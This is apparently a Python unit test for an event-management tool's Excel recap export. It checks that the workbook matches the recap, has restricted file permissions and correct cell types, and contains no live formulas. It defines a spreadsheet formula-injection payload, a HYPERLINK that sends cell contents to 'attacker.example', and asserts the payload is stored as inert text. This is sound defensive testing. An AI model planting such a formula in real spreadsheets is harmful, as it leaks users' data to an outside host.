"""The recap workbook read back with openpyxl: the same tables as the recap, typed, and no formulas."""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

from openpyxl import load_workbook

from eventdesk.handoff.recap import build_recap
from eventdesk.handoff.recap_xlsx import SHEETS, recap_sheets, summary_rows, write_workbook
from eventdesk.store.asks import raise_ask
from eventdesk.store.db import open_store
from eventdesk.store.event import load_settings
from eventdesk.store.meetings import list_meetings, log_outcome
from tests.unit.test_recap import DANA, NOW, SOFIA, known_show

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'


async def test_workbook_equals_the_recap(tmp_path: Path, samples: Path) -> None:
    path = await known_show(tmp_path / "recap.db", samples)
    async with await open_store(path) as store:
        meeting = next(m for m in await list_meetings(store) if m.title == "Corvexa intro")
        await log_outcome(store, meeting.id, "done", "=1+1")
        await raise_ask(store, asked_of=SOFIA, asked_by=DANA, text=EVIL)
        settings = await load_settings(store)
        recap = await build_recap(store, settings, date(2026, 3, 10), NOW)
    out = write_workbook(recap, settings.timezone, tmp_path / "recap.xlsx")
    assert out.stat().st_mode & 0o777 == 0o600

    book = load_workbook(out)
    assert book.sheetnames == ["Summary", *SHEETS]
    expected = recap_sheets(recap)
    for title, header in SHEETS.items():
        rows = list(book[title].iter_rows(values_only=True))
        assert rows[0] == header and book[title]["A1"].font.b
        read = [tuple(None if v == "" else v for v in row) for row in rows[1:]]
        want = [tuple(None if v in ("", None) else v for v in row) for row in expected[title]]
        assert read == want, title
    summary = {k: v for k, v in book["Summary"].iter_rows(values_only=True)}
    assert summary == {k: (datetime.combine(v, datetime.min.time()) if type(v) is date else v)
                       for k, v in summary_rows(recap, settings.timezone)}

    cells = [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]          # nothing computes
    texts = {c.value for c in cells if c.data_type == "s"}
    assert EVIL in texts and "=1+1" in texts                              # lead data stays text
    goals = book["Goals"]
    assert [type(goals.cell(2, n).value) for n in (2, 3, 4, 5)] == [int] * 4  # counts are numbers
    start = book["Meetings"]["A2"]
    assert start.is_date and start.value == datetime(2026, 3, 10, 10, 0)    # local time, a real date-time
    assert book["Accounts"]["G2"].value is True and book["Accounts"]["G5"].value is False  # Hanse: not reached
